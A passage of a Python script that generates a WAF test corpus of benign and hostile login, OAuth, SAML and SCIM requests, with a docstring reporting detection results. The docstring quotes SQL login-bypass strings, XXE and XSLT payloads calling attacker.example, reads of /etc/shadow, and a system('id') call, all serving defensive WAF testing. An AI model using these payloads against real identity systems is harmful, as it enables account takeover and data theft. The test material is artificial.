#!/usr/bin/env python3
r"""Held-out corpus: identity, authentication and account flows.

Usage::

    python3 scripts/corpus-identity.py attacks > rulesets/tests/data/identity-attacks.jsonl
    python3 scripts/corpus-identity.py benign  > rulesets/tests/data/identity-benign.jsonl

One JSON object per line in the shape of ``shared/corpora/README.md``: ``id``,
``set`` (always ``identity``), ``category``, ``expect``, ``method``, ``uri``,
``version``, ``headers`` (Host, User-Agent, Content-Type where there is a body and a
Content-Length equal to the UTF-8 length of the body) and ``body``.  Output is
deterministic: every random choice (passwords, tokens, certificates, user agents,
which framework carries a payload) comes from ``random.Random`` seeded with a fixed
seed (``SEED``; the attacks use ``SEED + 1``).

The corpus was written blind: from knowledge of what identity providers, relying
parties and account pages really send (the OAuth 2.0/OIDC, SAML 2.0, WebAuthn and
SCIM 2.0 specifications, Keycloak, Okta, Auth0, Cognito, Entra ID/ADFS, Shibboleth,
Devise, Django, Laravel, ASP.NET Identity and Spring Security) and of how attacks
on those flows are really delivered (PayloadsAllTheThings, HackTricks, PortSwigger
research, published CVEs in identity products), never from the WAF's rules or
other corpora.

Why this workload
-----------------
Login and identity endpoints are where a WAF is most tempted to produce false
positives: generated passwords hold every ASCII symbol (quotes, ``--``, ``;``,
``<``, ``>``, ``|``, ``$``, backticks, ``/*``, ``#``), names hold apostrophes
(O'Brien, D'Angelo, and the surname Null), redirect URLs nest URLs, and tokens are
long base64 (JWTs, SAML XML, WebAuthn CBOR, SPNEGO).  They are also where specific
attacks live: login bypass by SQL, NoSQL and LDAP injection, SSRF through URLs an
identity server fetches, XXE in SAML, Log4Shell in usernames, deserialisation in
remember-me cookies, header injection in password-reset mail.

Benign requests (``expect: pass``, ``category: benign``)
---------------------------------------------------------
``id`` is ``identity/benign/<sub-label>/<n>``.  Passwords are drawn from: random
strings over letters, digits and all 32 ASCII punctuation characters (12 to 64
long), diceware-style passphrases with assorted separators, Apple-style
``xxxxxx-xxxxxx-xxxxxx`` and a list of human-chosen ones (``Tr0ub4dor&3``,
``</Hunter2>``, ``it's "secret" ok?``, ``C:\Users\me\pw!``).  People have
apostrophes, hyphens, diacritics and plus-tagged or RFC 3696 e-mail addresses.
Sub-labels:

``login-form``
    Form logins of 18 frameworks: WordPress, Django allauth, Devise, Keycloak,
    Spring Security, ASP.NET Core Identity, Laravel, Auth0 Universal Login, plain
    PHP, Shibboleth IdP, ADFS (``DOMAIN\user``), Drupal, Joomla, Jenkins, GitLab,
    Nextcloud, Moodle, Apereo CAS (gzip+base64 ``execution``).
``login-json``
    JSON logins: Okta ``/api/v1/authn``, Cognito ``InitiateAuth``, Firebase,
    Supabase, a GraphQL login mutation, NextAuth credentials, Auth0
    ``/co/authenticate``, Grafana, Strapi, Directus, Appwrite, a mobile banking app.
``register``
    Sign-ups (forms and JSON): names, company names with ``&`` and quotes
    (``Toys"R"Us``, ``Ben & Jerry's``), phone numbers, addresses, free-text fields.
``password-reset``
    Forgot-password, reset links (Django, Laravel, Keycloak action tokens), reset
    and change forms, Okta/Cognito change-password, security questions answered in
    prose.
``mfa``
    TOTP, recovery codes, Okta/Cognito/Auth0/Keycloak/Duo challenges, TOTP
    enrolment with an ``otpauth://`` URI, SMS enrolment.
``oauth-authorize``
    Authorization requests (PKCE, nonce, ``claims`` JSON, RAR
    ``authorization_details``, nested redirect URIs, loopback and custom-scheme
    redirects), callbacks, ``form_post`` responses with id_tokens, error callbacks
    with prose ``error_description`` (Entra ``AADSTS`` text with CR LF), consent.
``oauth-token``
    Token endpoint: authorization_code, refresh_token, client_credentials, device
    code, token exchange, JWT bearer, ROPC, ``private_key_jwt`` client assertions,
    introspection, revocation, RFC 9126 PAR, RFC 7591 client registration.
``oidc``
    Discovery, JWKS, WebFinger, userinfo, RP-initiated logout with
    ``id_token_hint``, front- and back-channel logout, request objects, ``claims``.
``saml-post`` / ``saml-redirect``
    Signed SAMLResponse and AuthnRequest (``ds:Signature``, X.509 certificates,
    attribute statements with group DNs), WS-Federation ``wresult`` (raw XML,
    url-encoded), IdP metadata upload; HTTP-Redirect binding (deflate + base64,
    ``SigAlg``/``Signature``), logout requests and responses, RelayState URLs.
``webauthn``
    Passkey registration options, attestation (CBOR ``attestationObject`` with a
    COSE key, ``packed``/``apple``/``fido-u2f``), assertions, FIDO MDS3 metadata
    statements with data: URIs.
``scim``
    SCIM 2.0 filters (``and``/``or``/``not``, ``emails[type eq "work"]``, ``pr``,
    ``co``, ``sw``), user create/replace, PATCH with paths, group membership, Bulk.
``directory``
    Staff directory searches (wildcards such as ``Smi*``), ``DOMAIN\user`` logins,
    Keycloak LDAP federation settings with a real LDAP filter.
``profile`` / ``tenant-admin``
    Profile and address updates with prose bios, data: URI and SVG avatars,
    e-mail signatures; Auth0 Liquid e-mail templates, a Cognito custom message,
    Okta expressions, an Auth0 Action (JavaScript), Keycloak message bundles.
``session-headers``
    Cookie-heavy requests (Keycloak, Auth0 with a JSON transaction cookie, Okta,
    Cognito/Amplify, ASP.NET Core, Django, Rails, Laravel, Express, Spring,
    WordPress, Shibboleth), Bearer, Basic (symbol passwords), DPoP, Digest,
    SigV4 and HTTP-signature Authorization headers.
``negotiate-mtls``
    ``Negotiate`` SPNEGO and NTLM type 1/3 blobs, Envoy ``X-Forwarded-Client-Cert``
    with url-encoded PEM, nginx/ALB client-certificate headers, EST.
``captcha``
    reCAPTCHA, hCaptcha, Turnstile tokens in forms and JSON, ``siteverify`` and
    reCAPTCHA Enterprise assessments.

Attacks (``expect: detect``)
----------------------------
``id`` is ``identity/<category>/<sub-label>/<n>``.  Payloads ride in the same
framework requests as the benign traffic; some are re-sent unencoded as a script
would (``curl -d``), some get SQL comment, case or whitespace evasions.

``sqli``
    ``login-form`` (username, e-mail or password of a random framework),
    ``login-json`` (incl. ``\u0027`` escapes), ``blind`` (time, boolean and
    error based, in forgot-password, availability checks and logins),
    ``stacked``, ``reset-token`` (reset/verify/invite links), ``oauth-param``
    (client_id, refresh_token, token, user_code), ``scim-filter`` (quotes inside
    SCIM string values), ``saml-nameid`` (base64 SAMLResponse).
``nosqli``
    ``json-login`` (``$ne``, ``$gt``, ``$regex``, ``$in``, ``$where``,
    ``$expr``, ``$function``), ``form-brackets`` (``password[$ne]=`` raw and
    encoded, in bodies and query strings), ``reset-token``.
``ldapi``
    ``directory-login``, ``directory-search``, ``scim-filter``.
``ssrf``
    Cloud metadata (AWS, GCP, Azure, Alibaba, ECS, Oracle, DigitalOcean; decimal,
    hex, octal, IPv6-mapped, nip.io and userinfo notations), loopback and internal
    services, ``file://``, ``gopher://``, ``dict://``, ``ldap://``, ``jar:``, in
    ``redirect-uri``, ``logout-redirect``, ``relaystate``, ``request-uri``,
    ``client-registration`` (jwks_uri, sector_identifier_uri, logo_uri, ...) and
    ``fetch-url`` (IdP metadata URL, issuer discovery, avatar import, webhooks).
``xxe``
    ``saml-post`` (DOCTYPE with external, parameter, local-DTD and billion-laughs
    entities and XInclude, base64 in SAMLResponse/SAMLRequest), ``plain-xml``
    (SAML ACS, WS-Trust, XML-RPC login, ECP/PAOS, metadata upload),
    ``saml-redirect`` (DOCTYPE inside deflate + base64: hard by design),
    ``xslt`` (XSLT in ``ds:Transform``: Xalan Runtime.exec, unparsed-text,
    document(), php:function).
``xss``
    ``display-name``, ``oauth-state`` (state, login_hint), ``error-description``,
    ``redirect-js`` (``javascript:``/``data:``/``vbscript:`` in redirect_uri,
    post_logout_redirect_uri, next/returnUrl, redirect_to), ``scim-attr``,
    ``reflected-field`` (forgot-password e-mail, MFA username, RelayState).
``ssti``
    ``profile-field`` and ``email-template``: Jinja2, Twig, Freemarker, Velocity,
    Thymeleaf/SpEL, Handlebars, Nunjucks, Tornado, Smarty, ERB, Razor.
``java``
    ``log4shell-username``, ``log4shell-header`` (User-Agent, X-Forwarded-For,
    X-Api-Version, Referer, Authorization, Cookie, ...), ``rememberme-cookie``
    (base64 Java serialisation streams ``rO0AB...`` naming gadget classes),
    ``viewstate`` (JSF), ``json-gadget`` (Jackson/fastjson), ``expression-language``
    (Spring Security OAuth CVE-2016-4977, Struts2 Content-Type OGNL, Spring4Shell).
``crlf``
    ``redirect-param``, ``email-header`` (``Bcc:`` injection in reset and invite
    mail), ``header-value``.
``rce``
    ``provisioning`` (SCIM/registration usernames, POSIX loginShell/homeDirectory),
    ``admin-connection-test`` (LDAP host), ``password-hook``, ``ssh-key``.
``lfi``
    ``avatar-path`` (upload file names, avatar reads), ``locale`` (ui_locales,
    kc_locale, lang), ``template-param`` (theme, template, Keycloak resources).
``php``
    ``rememberme-cookie`` (serialised objects), ``template-param`` (php://, data://,
    expect://, phar://, zip://), ``avatar-upload``.
``rfi``
    ``template-param``.
``generic``
    ``prototype-pollution`` (``__proto__``/``constructor.prototype`` in JSON,
    forms and query strings).

First sight (2026-12-05, palisade-rules at 460517d)
---------------------------------------------------
``palisade-rules eval`` (built-in rules, threshold 5), corpus as generated by this
script, before any rule was changed for it.  (Before this recorded run the
generator was corrected: its Shibboleth and ADFS login forms dropped a given
username, so 3 attacks carried no payload, and one CRLF test sent a literal
backslash-r-backslash-n, which is no CRLF; it now sends a bare ``%0A``.)

=========================  =====  ===============  ===============
set                          n     PL1              PL2
=========================  =====  ===============  ===============
attacks (detected)          520    504 (96.9 %)     506 (97.3 %)
benign (blocked)            640     29 (4.5 %)       97 (15.2 %)
=========================  =====  ===============  ===============

Attacks by category, PL1 / PL2: sqli 92/96 · 93/96, xxe 24/35 · 25/35, crlf
27/28 · 27/28; nosqli 41, ldapi 29, ssrf 62, xss 58, ssti 30, java 47, rce 34,
lfi 31, php 13, rfi 8, generic 8 all detected at PL1.  Sub-labels below 100 % at
PL1: sqli/login-form 33/34 (PL2 34/34), sqli/scim-filter 3/4, sqli/saml-nameid
0/2, xxe/saml-post 10/13, xxe/saml-redirect 0/4, xxe/xslt 2/6 (PL2 3/6),
crlf/header-value 1/2.

Attacks let through at PL1 (16):

- SQL in a base64 SAMLResponse NameID: ``sqli/saml-nameid/1`` (``admin@example.com'
  OR '1'='1``), ``/2`` (``x' UNION SELECT username,password FROM users--``).
- SQL inside a SCIM filter string: ``sqli/scim-filter/2`` (``userName eq "admin'--"``).
- Below threshold: ``sqli/login-form/21`` (Jenkins ``j_password=ad'||'min'--/**/``,
  sqli-002 scores 4; blocked at PL2).
- XXE in base64 SAML (POST binding) without a SYSTEM entity in an internal
  subset: ``xxe/saml-post/6`` (``<!DOCTYPE foo PUBLIC "-//B/A/EN"
  "http://attacker.example/x.dtd">`` in a SAMLRequest), ``/8`` (billion laughs,
  internal entities only), ``/13`` (``xi:include href="file:///etc/shadow"
  parse="text"`` in an AttributeValue, no DOCTYPE).
- XXE inside deflate+base64 (HTTP-Redirect binding) SAMLRequest:
  ``xxe/saml-redirect/1`` (``file:///etc/passwd``), ``/2`` (parameter entity
  ``http://attacker.example/evil.dtd``), ``/3`` (``php://filter``), ``/4``
  (``http://169.254.169.254/...``).
- XSLT in a ``ds:Transform`` of a base64 SAMLResponse: ``xxe/xslt/1`` (Xalan
  ``rt:exec`` of ``curl``; java-151 flags it at PL2), ``/2`` (``unparsed-text``
  exfiltration of ``/etc/passwd``), ``/3`` (``document('http://attacker...')``),
  ``/4`` (``php:function('system','id')``).  The same transforms sent as plain
  XML (``/5``, ``/6``) are blocked.
- Header injection in a JSON value: ``crlf/header-value/1``
  (``{"user":"jdoe\r\nX-Forwarded-User: admin"}``).

Benign requests blocked at PL1 (29), by cause:

- protocol-110 on ``HEADERS:Content-Type`` ``application/x-amz-json-1.1`` (Cognito
  JSON API through a proxy), 17: login-json/18, /31, /36; register/5, /15, /25,
  /35; password-reset/10, /23, /36; mfa/4, /14, /24; tenant-admin/2, /7;
  session-headers/40, /43.
- ssrf-106 on ``BODY:json.config.connectionUrl[0]`` (``ldaps://dc01.corp...:636``
  in a Keycloak LDAP federation component), 4: directory/5, /11, /17, /23.
- rce-140 on ``COOKIES:messages`` (a Django < 3.1 messages cookie
  ``"<hash>$[[\"__json_message\"\0540\05425\054\"Welcome back, ...\"]]"``), 3:
  session-headers/19, /31, /37.
- rce-151 on ``BODY:json.body`` (Auth0 Liquid e-mail template ``{% if
  application.name == 'Mobile' %}``), 2: tenant-admin/1, /6.
- rfi-100 on a native-app loopback redirect URI ``http://127.0.0.1:53682/``
  (RFC 8252), 2: oauth-authorize/25 (``ARGS:redirect_uri``), oauth-token/14
  (``BODY:form.redirect_uri``).
- xss-002 + xss-060 on ``BODY:form.wresult`` (WS-Federation
  ``<t:RequestSecurityTokenResponse ...>`` posted as url-encoded raw XML), 1:
  saml-post/29.

At PL2 the benign block rate is 15.2 % (97/640); highest sub-labels
saml-redirect 15/26 (rfi-220 on ``SigAlg=http://www.w3.org/...#rsa-sha256``),
oauth-authorize 16/48 and oidc 12/44 (rfi-220 on URL-valued ``iss``, ``scope``,
``resource``, ``rel``; protocol-310 on ``%2F`` in the URI; session-200 on a
``sid`` argument), tenant-admin 6/10; webauthn, negotiate-mtls and captcha 0.
"""

import base64
import hashlib
import json
import random
import string
import struct
import sys
import unicodedata
import urllib.parse
import uuid
import zlib

SEED = 20261205
SET = "identity"


# ---------------------------------------------------------------------------
# encoding helpers
# ---------------------------------------------------------------------------

def b64(b):
    return base64.b64encode(b).decode()


def b64url(b):
    return base64.urlsafe_b64encode(b).decode().rstrip("=")


def q(s, safe=""):
    """Percent-encode everything but unreserved characters (and ``safe``)."""
    return urllib.parse.quote(s, safe=safe)


def qp(s, safe=""):
    """application/x-www-form-urlencoded encoding of one value (space as +)."""
    return urllib.parse.quote_plus(s, safe=safe)


def form(pairs):
    return "&".join(f"{qp(k)}={qp(v)}" for k, v in pairs)


def query(pairs, plus=False):
    if plus:
        return form(pairs)
    return "&".join(f"{q(k)}={q(v)}" for k, v in pairs)


def light(s, keep=""):
    """What curl or a hand-typed URL sends: only the characters that would
    break the request line or the query are encoded (``keep``: sent as is)."""
    out = []
    for ch in s:
        o = ord(ch)
        if ch in keep:
            out.append(ch)
        elif ch in " \"<>#%&+`{}|\\^" or o < 0x21 or o > 0x7e:
            out.append(q(ch))
        else:
            out.append(ch)
    return "".join(out)


def jdump(obj, compact=True, ascii_=True):
    if compact:
        return json.dumps(obj, separators=(",", ":"), ensure_ascii=ascii_)
    return json.dumps(obj, indent=2, ensure_ascii=ascii_)


def deflate(data):
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    return co.compress(data) + co.flush()


def rtok(rng, n, alphabet=string.ascii_letters + string.digits):
    return "".join(rng.choice(alphabet) for _ in range(n))


B64URL_ALPHA = string.ascii_letters + string.digits + "-_"
HEX = "0123456789abcdef"


def rhex(rng, n):
    return rtok(rng, n, HEX)


def ruuid(rng):
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def rint(rng, a, b):
    return rng.randint(a, b)


# ---------------------------------------------------------------------------
# tokens, certificates, binary blobs
# ---------------------------------------------------------------------------

SIG_LEN = {"RS256": 256, "RS512": 512, "PS256": 256, "ES256": 64, "ES384": 96,
           "HS256": 32, "HS512": 64, "EdDSA": 64}


def jwt(rng, payload, alg="RS256", kid=None, typ="JWT", header=None):
    h = {"alg": alg}
    if typ:
        h["typ"] = typ
    if kid:
        h["kid"] = kid
    if header:
        h.update(header)
    return (b64url(jdump(h).encode()) + "." + b64url(jdump(payload).encode())
            + "." + b64url(rng.randbytes(SIG_LEN[alg])))


def jwe(rng, size=700):
    h = {"cty": "JWT", "enc": "A256GCM", "alg": "RSA-OAEP"}
    return ".".join([b64url(jdump(h).encode()), b64url(rng.randbytes(256)),
                     b64url(rng.randbytes(12)), b64url(rng.randbytes(size)),
                     b64url(rng.randbytes(16))])


def der_cert(rng, size=None):
    size = size or rng.randint(780, 1300)
    body = rng.randbytes(size)
    # SEQUENCE { SEQUENCE { [0] { INTEGER 2 } INTEGER serial ... } }
    inner = b"\x30\x82" + struct.pack(">H", size - 4) + b"\xa0\x03\x02\x01\x02\x02\x14" + body[:size - 11]
    return b"\x30\x82" + struct.pack(">H", len(inner)) + inner


def pem(der, label="CERTIFICATE"):
    s = b64(der)
    lines = [s[i:i + 64] for i in range(0, len(s), 64)]
    return f"-----BEGIN {label}-----\n" + "\n".join(lines) + f"\n-----END {label}-----\n"


def cbor(x):
    def head(major, n):
        if n < 24:
            return bytes([major << 5 | n])
        if n < 256:
            return bytes([major << 5 | 24, n])
        if n < 65536:
            return bytes([major << 5 | 25]) + n.to_bytes(2, "big")
        return bytes([major << 5 | 26]) + n.to_bytes(4, "big")
    if isinstance(x, bool):
        return b"\xf5" if x else b"\xf4"
    if isinstance(x, int):
        return head(0, x) if x >= 0 else head(1, -1 - x)
    if isinstance(x, bytes):
        return head(2, len(x)) + x
    if isinstance(x, str):
        e = x.encode()
        return head(3, len(e)) + e
    if isinstance(x, list):
        return head(4, len(x)) + b"".join(cbor(i) for i in x)
    if isinstance(x, dict):
        return head(5, len(x)) + b"".join(cbor(k) + cbor(v) for k, v in x.items())
    raise TypeError(x)


def spnego(rng, size=None):
    size = size or rng.randint(1200, 1900)
    mech = b"\x06\x06\x2b\x06\x01\x05\x05\x02"
    inner = b"\xa0\x82" + struct.pack(">H", size) + b"\x30\x82" + struct.pack(">H", size - 4) + rng.randbytes(size - 4)
    body = mech + inner
    return b64(b"\x60\x82" + struct.pack(">H", len(body)) + body)


def ntlm1():
    return b64(b"NTLMSSP\x00\x01\x00\x00\x00\x07\x82\x08\xa2" + b"\x00" * 16 + b"\x0a\x00\x61\x4a\x00\x00\x00\x0f")


def ntlm3(rng, user, domain, host):
    u = user.encode("utf-16-le")
    d = domain.encode("utf-16-le")
    h = host.encode("utf-16-le")
    lm = rng.randbytes(24)
    nt = rng.randbytes(rng.randint(250, 330))
    off = 88
    fields = b""
    payload = b""
    for blob in (lm, nt, d, u, h, rng.randbytes(16)):
        fields += struct.pack("<HHI", len(blob), len(blob), off + len(payload))
        payload += blob
    return b64(b"NTLMSSP\x00\x03\x00\x00\x00" + fields + b"\x05\x82\x88\xa2\x0a\x00\x61\x4a\x00\x00\x00\x0f"
               + rng.randbytes(16) + payload)


def java_serialized(rng, classes, tail=b""):
    """A Java object stream (ysoserial-like gadget chain): magic, version,
    TC_OBJECT/TC_CLASSDESC records naming each class."""
    out = b"\xac\xed\x00\x05"
    for i, cls in enumerate(classes):
        n = cls.encode()
        out += (b"\x73\x72" if i == 0 else b"\x72") + struct.pack(">H", len(n)) + n + rng.randbytes(8) + b"\x02\x00\x02"
        out += b"L\x00\x0aiTransformt\x00\x12Ljava/lang/Object;"
        out += b"x\x70"
    return out + tail


# ---------------------------------------------------------------------------
# people, hosts, user agents
# ---------------------------------------------------------------------------

FIRST = ["Jane", "Liam", "Siobhan", "Aoife", "José", "Zoë", "François", "Mohammed", "Priya",
         "Wei", "Yuki", "Olumide", "Björn", "Łukasz", "Ngozi", "Mary-Kate", "Jean-Luc", "Seán",
         "Ana María", "Chloé", "Dmitri", "Fatima", "Hannah", "Kwame", "Lucía", "Mateo",
         "Noor", "Oisín", "Rafael", "Sofía", "Thomas", "Ursula", "Valentina", "William", "Xu",
         "Yasmin", "Zainab", "D'Arcy", "Ma'ayan", "Anne-Marie"]
LAST = ["O'Brien", "D'Angelo", "O'Connor", "McDonald", "Smith-Jones", "van der Berg",
        "de la Cruz", "Núñez", "Al-Hassan", "N'Diaye", "Ó Súilleabháin", "Müller", "Kowalski",
        "Okafor", "Tanaka", "St. John", "D'Souza", "L'Estrange", "Dell'Acqua", "Null",
        "García Márquez", "Nguyễn", "Johnson", "Williams", "Brown", "Lee", "Patel", "Kim",
        "Schmidt", "Rossi", "MacLeod", "O'Neill", "D'Agostino", "Fitzgerald", "Dubois",
        "Andersson", "Ivanova", "Haddad", "Cohen", "Mbeki"]
DOMAINS = ["example.com", "example.org", "example.net", "mail.example.co.uk", "acme-corp.com",
           "contoso.com", "fabrikam.io", "initech.example", "globex.example", "uni.example.edu",
           "gmail.com", "outlook.com", "proton.me", "icloud.com", "yahoo.co.jp", "web.de"]
PLUS_TAGS = ["work", "newsletter", "shop", "github", "2025", "acme", "billing", "sso",
             "test-1", "spam", "ebay", "dev"]
ODD_EMAILS = ["o'brien@example.ie", "jane.o'neil+work@example.com", "user/dept=shipping@example.com",
              "!def!xyz%abc@example.com", "_somename@example.com", "first_last@example.co.uk",
              "x@example.museum", "d'angelo.marco+sso@example.it", "customer/department=shipping@example.com",
              "\"john smith\"@example.com", "#hashtag@example.org", "a.b-c_d+e=f@sub.example.net",
              "1234567890@example.com", "email@123.123.123.123", "email@[123.123.123.123]",
              "mary-kate.o'reilly@example.ie", "{team}@example.com", "user~name@example.com",
              "l'estrange+\"quoted\"@example.fr", "ops&finance@example.com"]

ASCII_FOLD = str.maketrans({"ł": "l", "ø": "o", "ß": "ss", "œ": "oe", "æ": "ae", "Ł": "L", "Ø": "O"})


def slug(s):
    s = unicodedata.normalize("NFKD", s.translate(ASCII_FOLD))
    s = "".join(ch for ch in s if not unicodedata.combining(ch)).lower()
    return "".join(ch for ch in s if ch.isalnum() or ch in ".-'")


def person(rng):
    first = rng.choice(FIRST)
    last = rng.choice(LAST)
    dom = rng.choice(DOMAINS)
    r = rng.random()
    local = slug(first).replace("'", "") + "." + slug(last).replace(" ", "")
    if r < 0.25:
        email = f"{local}+{rng.choice(PLUS_TAGS)}@{dom}"
    elif r < 0.35:
        email = rng.choice(ODD_EMAILS)
    elif r < 0.55:
        email = f"{slug(first)[0]}{slug(last).replace(' ', '').replace('-', '')}@{dom}"
    else:
        email = f"{local}@{dom}"
    username = rng.choice([
        slug(first).replace("'", "") + "." + slug(last).replace(" ", "").replace("'", ""),
        slug(first)[0] + slug(last).replace(" ", "").replace("'", "").replace("-", ""),
        slug(first).replace("'", "") + str(rng.randint(1, 1999)),
        email,
    ])
    return {"first": first, "last": last, "name": f"{first} {last}", "email": email,
            "username": username}


PW_SYMBOLS = string.punctuation  # !"#$%&'()*+,-./:;<=>?@[\]^_`{|}~
HUMAN_PASSWORDS = [
    "correct horse battery staple", "Tr0ub4dor&3", "Summer2025!", "P@ssw0rd#2026",
    "MyDog'sName=Rex;1999", "</Hunter2>", "I<3Paris&Rome!", "<3 my c@t Biscuit!",
    "$$MoneyBags$$99", "#1-Mom!", "--hello--world--", "don't-tell-anyone", "it's \"secret\" ok?",
    "quiet;river;lantern;7", "purple-monkey-dishwasher-42", "C0ffee&Cream*", "x=y+z/2;",
    "Gr@ndma's-Apple-Pie", "ta$tyT4co$", "(╯°□°)╯︵ ┻━┻", "naïve-café-Zürich-9", "pa$$ w0rd with spaces",
    "!QAZ2wsx#EDC4rfv", "1qaz@WSX3edc", "qwerty`123~", "{Open|Sesame}", "[[brackets]]&(parens)",
    "50% off? no; 100%!", "a'b\"c`d", "Horse;Battery;Staple;Correct", "ILoveMyKids<3<3",
    "~/.config/secret", "C:\\Users\\me\\pw!", "mañana-será-otro-día", "Ünïcödé-Pässwörd-1",
]


def gen_password(rng, n=None):
    n = n or rng.choice([12, 14, 16, 16, 20, 20, 24, 32, 40, 64])
    alpha = string.ascii_letters + string.digits + PW_SYMBOLS
    while True:
        pw = "".join(rng.choice(alpha) for _ in range(n))
        if (any(c.islower() for c in pw) and any(c.isupper() for c in pw)
                and any(c.isdigit() for c in pw) and any(c in PW_SYMBOLS for c in pw)):
            return pw


def apple_password(rng):
    al = string.ascii_lowercase + string.digits
    parts = ["".join(rng.choice(al) for _ in range(6)) for _ in range(3)]
    i = rng.randrange(3)
    parts[i] = parts[i][:2] + rng.choice(string.ascii_uppercase) + parts[i][3:]
    return "-".join(parts)


WORDS = ["orbit", "marble", "velvet", "canyon", "thunder", "pickle", "lantern", "saffron",
         "meadow", "copper", "walrus", "biscuit", "galaxy", "ribbon", "tundra", "pepper",
         "harbor", "quartz", "willow", "falcon", "ember", "jigsaw", "nectar", "oyster"]


def passphrase(rng):
    sep = rng.choice([" ", "-", ".", "_", "~", "/", "+", ";", "&"])
    words = rng.sample(WORDS, rng.choice([4, 5, 6]))
    if rng.random() < 0.5:
        words = [w.capitalize() for w in words]
    return sep.join(words) + (str(rng.randint(0, 99)) if rng.random() < 0.5 else "")


def any_password(rng):
    r = rng.random()
    if r < 0.55:
        return gen_password(rng)
    if r < 0.7:
        return passphrase(rng)
    if r < 0.8:
        return apple_password(rng)
    return rng.choice(HUMAN_PASSWORDS)


BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.2849.80",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36",
]
APP_UAS = [
    "okhttp/4.12.0",
    "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 7 Build/AP2A.240905.003)",
    "AcmeBank/7.3.1 (iPhone; iOS 18.1; Scale/3.00)",
    "Shopnow/5.12.0 (com.shopnow.app; build:5120; iOS 17.6.1) Alamofire/5.9.1",
    "Contoso%20Teams/1416 CFNetwork/1568.200.51 Darwin/24.1.0",
]
SERVER_UAS = [
    "python-requests/2.32.3", "Go-http-client/2.0", "Java-http-client/21.0.5", "axios/1.7.7",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "Apache-HttpClient/4.5.14 (Java/17.0.13)",
    "curl/8.11.0", "okta-sdk-java/20.0.0 okhttp3/4.12.0 java/21.0.5 Linux/6.8.0",
    "Microsoft Azure AD SCIM Client", "Okta SCIM Client 1.0.0", "Ruby", "Faraday v2.12.0",
    "Keycloak/26.0.6", "Spring-Security-OAuth2-Client", "aiohttp/3.11.9",
]
LANGS = ["en-US,en;q=0.9", "en-GB,en;q=0.9", "fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7",
         "de-DE,de;q=0.9,en;q=0.8", "es-ES,es;q=0.9", "ja,en-US;q=0.9,en;q=0.8",
         "pt-BR,pt;q=0.9,en-US;q=0.8,en;q=0.7", "en-IE,en;q=0.9,ga;q=0.8", "ar,en;q=0.8"]
ACCEPT_HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"

IDP_HOSTS = ["login.example.com", "auth.acme-corp.com", "id.example.org", "sso.contoso.com",
             "accounts.shopnow.example", "idp.uni.example.edu", "keycloak.example.net",
             "acme.okta.com", "acme.eu.auth0.com", "fabrikam.b2clogin.com"]
APP_HOSTS = ["app.example.com", "www.example.org", "portal.acme-corp.com", "shop.example.net",
             "dashboard.fabrikam.io", "wiki.uni.example.edu", "crm.contoso.com", "admin.initech.example"]
API_HOSTS = ["api.example.com", "api.acme-corp.com", "graph.example.org", "users.internal.example.net"]


# ---------------------------------------------------------------------------
# the corpus
# ---------------------------------------------------------------------------

class Corpus:
    def __init__(self, rng, expect):
        self.rng = rng
        self.expect = expect
        self.rows = []
        self.n = {}

    def add(self, category, sub, method, uri, host, headers=(), body=None, ctype=None,
            ua=None, browser=None):
        rng = self.rng
        key = (category, sub)
        self.n[key] = self.n.get(key, 0) + 1
        rid = f"{SET}/{category}/{sub}/{self.n[key]}"
        if ua is None:
            ua = rng.choice(BROWSER_UAS if (browser is None or browser) else SERVER_UAS)
        hs = [["Host", host], ["User-Agent", ua]]
        names = {h[0].lower() for h in headers}
        if browser is None or browser:
            if "accept" not in names:
                hs.append(["Accept", ACCEPT_HTML if method == "GET" or (ctype or "").startswith((FORM, "multipart/")) else "application/json, text/plain, */*"])
            if "accept-language" not in names:
                hs.append(["Accept-Language", rng.choice(LANGS)])
        elif "accept" not in names:
            hs.append(["Accept", "application/json"])
        hs += [list(h) for h in headers]
        if body is not None:
            if ctype:
                hs.append(["Content-Type", ctype])
            hs.append(["Content-Length", str(len(body.encode("utf-8")))])
        row = {"id": rid, "set": SET, "category": category, "expect": self.expect,
               "method": method, "uri": uri, "version": "HTTP/1.1", "headers": hs}
        if body is not None:
            row["body"] = body
        self.rows.append(row)
        return row


FORM = "application/x-www-form-urlencoded"
JSON = "application/json"
SCIM = "application/scim+json"


def origin(host):
    return ["Origin", f"https://{host}"]


def referer(url):
    return ["Referer", url]


def csrf(rng):
    return rtok(rng, 64)


def rails_token(rng):
    return b64(rng.randbytes(64))


def aspnet_token(rng, n=150):
    return "CfDJ8" + rtok(rng, n, B64URL_ALPHA)


def access_token(rng, iss, sub=None, aud="https://api.example.com", scopes=None, alg="RS256"):
    now = 1764900000 + rng.randint(0, 3000000)
    p = {"iss": iss, "sub": sub or ruuid(rng), "aud": aud, "iat": now, "exp": now + 3600,
         "scope": scopes or "openid profile email", "client_id": rtok(rng, 20), "jti": ruuid(rng)}
    if rng.random() < 0.4:
        p["roles"] = rng.sample(["admin", "user", "billing:read", "reports.viewer", "support"], 2)
